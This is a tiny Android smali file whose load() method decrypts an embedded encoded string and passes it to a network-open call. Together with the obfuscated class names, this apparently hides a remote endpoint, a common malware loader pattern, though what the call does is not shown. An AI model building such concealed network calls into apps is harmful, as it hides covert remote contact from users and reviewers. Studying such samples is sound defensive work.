.class public La2/Api;
.super Ljava/lang/Object;

.method public static load()V
    .registers 6
    const-string v0, "qwlYqwjCDMj7Ud1TN+nScRbqWsCnlRirUFRI6zMJ2vhCEM5DXX5/K0cctMD7deha"
    invoke-static {v0}, La2/Dec;->a(Ljava/lang/String;)Ljava/lang/String;
    move-result-object v0
    invoke-static {v0}, La2/Net;->open(Ljava/lang/String;)V
    return-void
.end method

